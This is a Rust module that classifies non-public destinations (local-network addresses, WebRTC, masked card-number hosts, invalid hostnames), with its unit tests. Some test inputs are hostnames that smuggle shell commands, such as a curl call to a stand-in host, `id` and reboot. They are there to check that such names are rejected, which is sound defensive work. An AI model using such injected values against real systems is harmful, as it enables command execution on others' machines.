//! Destinations that are not a domain of the public network.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// The destination of everything in a visitor's own network: a router, a printer, the page of a filter. One for all of it,
/// because each visitor has another address there.
pub const VISITOR_NETWORK: &str = "visitor-network";

/// The destination of a peer-to-peer connection, whose peers no report names.
pub const WEBRTC: &str = "webrtc";

/// The destination of all hosts whose names nobody can register: they hold characters that shells and other programs take for
/// their own, and people paste names into commands.
pub const INVALID_HOST: &str = "invalid-host";

/// The destination of all hosts that nobody can name without a card number: it is in the very domain, or in all of the host.
/// A name of its own, because what a person decides about [`INVALID_HOST`] says nothing about a card number.
pub const CARD_HOST: &str = "card-number-host";

/// What is kept of a host in place of a card number.
pub const CARD_MARK: &str = "{pan}";

/// Whether a host holds nothing but letters, digits, `.`, `_`, `:` and `-`: what names in the DNS and addresses are made of.
pub fn is_plain(host: &str) -> bool {
    host.bytes().all(|b| b.is_ascii_alphanumeric() || b"._:-".contains(&b))
}

/// The name under which a host is shown: its own, [`CARD_HOST`] or [`INVALID_HOST`].
pub fn plain_name(host: &str) -> &str {
    match host {
        plain if is_plain(plain) => plain,
        masked if masked.contains(CARD_MARK) => CARD_HOST,
        _ => INVALID_HOST,
    }
}

/// Whether a host is not in the public network: what answers there is in the visitor's own network, or on the visitor's
/// machine. `host` is lower-case, and an IP address has no brackets. A host with a card number never is: no router has such
/// a name, and what nobody can read must not hide among the visitor's own devices.
pub fn is_local(host: &str) -> bool {
    match host.parse() {
        Ok(IpAddr::V4(address)) => is_local_v4(address),
        Ok(IpAddr::V6(address)) => is_local_v6(address),
        Err(_) => is_local_name(host) && !host.contains(CARD_MARK),
    }
}

/// Whether an address is in somebody's own network: RFC 1918, 1122, 3927, 6598 (addresses that carriers share out) and 2544
/// (which filters answer with).
pub fn is_local_v4(address: Ipv4Addr) -> bool {
    let [a, b, ..] = address.octets();
    address.is_private()
        || address.is_loopback()
        || address.is_link_local()
        || address.is_broadcast()
        || a == 0
        || (a == 100 && b & 0xC0 == 64)
        || (a == 198 && b & 0xFE == 18)
}

fn is_local_v6(address: Ipv6Addr) -> bool {
    if let Some(mapped) = address.to_ipv4_mapped() {
        return is_local_v4(mapped);
    }
    // Site-local addresses (RFC 3879) are out of use, but not gone.
    let is_site_local = address.segments()[0] & 0xFFC0 == 0xFEC0;
    address.is_loopback()
        || address.is_unique_local()
        || address.is_unicast_link_local()
        || address.is_unspecified()
        || is_site_local
}

/// RFC 6761, 6762 (with its appendix G) and 8375; `internal` is reserved by ICANN, routers use the others.
fn is_local_name(host: &str) -> bool {
    let last = host.rsplit('.').next().unwrap_or(host);
    let is_single_label = last.len() == host.len() && !last.is_empty();
    is_single_label
        || matches!(
            last,
            "local"
                | "localhost"
                | "internal"
                | "intranet"
                | "private"
                | "corp"
                | "lan"
                | "home"
                | "localdomain"
                | "workgroup"
        )
        || host.ends_with(".home.arpa")
        || host == "fritz.box"
        || host.ends_with(".fritz.box")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_that_a_shell_would_run_are_one_name() {
        for host in
            ["a.example", "a_b.example", "2001:db8::1", "192.0.2.7", "xn--bcher-kva.example", ""]
        {
            assert_eq!(plain_name(host), host);
        }
        for host in
            ["$({curl,evil.test})", "`id`.test", "x;reboot.test", "o'b&c.test", "a b", "\u{202e}a"]
        {
            assert_eq!(plain_name(host), INVALID_HOST, "{host}");
        }
    }

    #[test]
    fn a_host_with_a_card_number_has_a_name_of_its_own_and_is_never_local() {
        for host in ["{pan}", "{pan}.net", "{pan}.co.uk", "{pan}.{pan}.example", "{pan}.lan"] {
            assert_eq!(plain_name(host), CARD_HOST, "{host}");
            assert!(!is_local(host), "{host}");
        }
        for odd in ["{pan", "{token:bdfkmqtv}.x"] {
            assert_eq!(plain_name(odd), INVALID_HOST, "{odd}");
        }
    }

    #[test]
    fn the_visitors_own_network() {
        for host in [
            "192.168.1.1",
            "10.0.0.1",
            "172.31.255.1",
            "127.0.0.1",
            "169.254.169.254",
            "100.64.0.1",
            "0.0.0.0",
            "198.18.0.1",
            "::1",
            "::",
            "fe80::1",
            "fd00::1",
            "::ffff:192.168.1.1",
            "localhost",
            "router",
            "printer.local",
            "nas.lan",
            "a.home.arpa",
            "fritz.box",
        ] {
            assert!(is_local(host), "{host}");
        }
        for host in [
            "203.0.113.9",
            "172.32.0.1",
            "100.128.0.1",
            "2001:db8::1",
            "::ffff:203.0.113.9",
            "shop.example",
            "local.example",
            "evil.box",
            "",
        ] {
            assert!(!is_local(host), "{host}");
        }
    }
}
